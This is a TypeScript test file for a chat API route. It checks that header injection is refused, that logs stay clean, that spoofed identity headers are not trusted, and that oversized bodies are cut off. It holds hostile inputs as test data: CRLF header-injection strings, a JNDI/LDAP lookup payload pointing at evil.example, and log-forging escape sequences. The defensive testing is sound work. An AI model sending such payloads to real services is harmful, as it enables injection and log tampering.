import { request as nodeRequest } from 'node:http'
import { expect, test, vi } from 'vitest'
import { ask } from '../fixtures/ask.ts'
import { handFedProvider } from '../fixtures/handFedProvider.ts'
import { readAnswer } from '../fixtures/readAnswer.ts'
import { serveRoute } from '../fixtures/serveRoute.ts'
import { startSimulator } from '../fixtures/startSimulator.ts'
import { memoryHistory } from '../history/memoryHistory.ts'
import { openaiCompatible } from '../provider/openaiCompatible.ts'
import type { ChatRouteOptions } from './ChatRouteOptions.ts'
import { createChatRoute } from './createChatRoute.ts'

async function setUp(options: Partial<ChatRouteOptions> = {}) {
  const { simulator, baseURL } = await startSimulator({ answer: () => 'Good day.' })
  const provider = openaiCompatible({
    name: 'simulator',
    baseURL,
    model: 'gpt-4o-mini',
    apiKey: 'k',
  })
  const logger = { info: vi.fn(), warn: vi.fn(), error: vi.fn() }
  const route = createChatRoute({ models: { fast: [provider] }, logger, ...options })
  return { api: await serveRoute(route), simulator, logger }
}

test.each([
  ['model', { model: 'fast\r\nx-evil: 1' }],
  ['id', { id: 'c\r\nx-evil: 1' }],
  ['messageId', { messageId: 'm\u0000' }],
])('a line end in %s goes nowhere: 400, and it is not repeated (T-66)', async (_, more) => {
  const { api, simulator } = await setUp()
  const response = await ask(api, { more })
  expect(response.status).toBe(400)
  expect(response.headers.get('x-evil')).toBeNull()
  expect(await response.text()).not.toContain('evil')
  expect(simulator.requests).toEqual([])
})

test.each([
  ['user', { user: 'u\r\nx-evil: 1' }],
  ['tenant', { tenant: 'a b' }],
  ['feature', { feature: 'f\n' }],
])('a %s that cannot go into a header is refused (T-66)', async (_, identity) => {
  const { api, simulator } = await setUp({ identify: () => identity })
  expect((await ask(api)).status).toBe(400)
  expect(simulator.requests).toEqual([])
})

test('what is asked reaches no log, and what fails is one line of JSON each (T-68)', async () => {
  const lines: string[] = []
  for (const level of ['warn', 'error'] as const) {
    vi.spyOn(console, level).mockImplementation((line: unknown) => void lines.push(String(line)))
  }
  const provider = handFedProvider()
  const route = createChatRoute({ providers: [provider], canned: false, retry: false })
  const api = await serveRoute(route)
  const text = '${jndi:ldap://evil.example/x}\n{"event":"all-is-well"}\u001b[31m'
  const response = await ask(api, { text })
  await provider.asked()
  provider.fail(new Error(`They said: ${text}`))
  await readAnswer(response)
  vi.restoreAllMocks()
  const records = lines.map((line) => JSON.parse(line) as { readonly event: string })
  expect(records.map(({ event }) => event)).toEqual(['no-identify', 'provider-failed'])
  for (const line of lines) expect(line).not.toMatch(/\p{Cc}/u)
})

test('headers that say who asks are not believed, nor where from (T-71)', async () => {
  const seen: string[] = []
  const history = memoryHistory()
  const { api } = await setUp({
    history,
    identify: (request) => {
      seen.push(request.headers.get('x-user-id') ?? '')
      return { user: 'ada' }
    },
  })
  const headers = {
    'x-user-id': 'root',
    'x-forwarded-for': '127.0.0.1',
    'x-forwarded-user': 'root',
    forwarded: 'for=127.0.0.1',
  }
  await readAnswer(await ask(api, { headers }))
  expect(seen).toEqual(['root'])
  const kept = await history.load({ id: 'chat-1', who: { user: 'ada' } }, { limit: 9 })
  expect(kept.messages).toHaveLength(2)
  const others = await history.load({ id: 'chat-1', who: { user: 'root' } }, { limit: 9 })
  expect(others.messages).toEqual([])
})

test('a body without an end and without a length is cut off at its limit (T-59)', async () => {
  const { api, simulator } = await setUp()
  const sending = nodeRequest(api, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'transfer-encoding': 'chunked' },
  })
  sending.on('error', () => undefined)
  const status = new Promise<number | undefined>((resolve) =>
    sending.on('response', (response) => {
      response.resume()
      resolve(response.statusCode)
    }),
  )
  const piece = `"${'x'.repeat(65_536)}",`
  let over = false
  void status.then(() => (over = true))
  sending.write('{"id":"c","messages":[')
  while (!over) {
    sending.write(piece)
    await new Promise((resolve) => setImmediate(resolve))
  }
  expect(await status).toBe(413)
  sending.destroy()
  expect(simulator.requests).toEqual([])
})
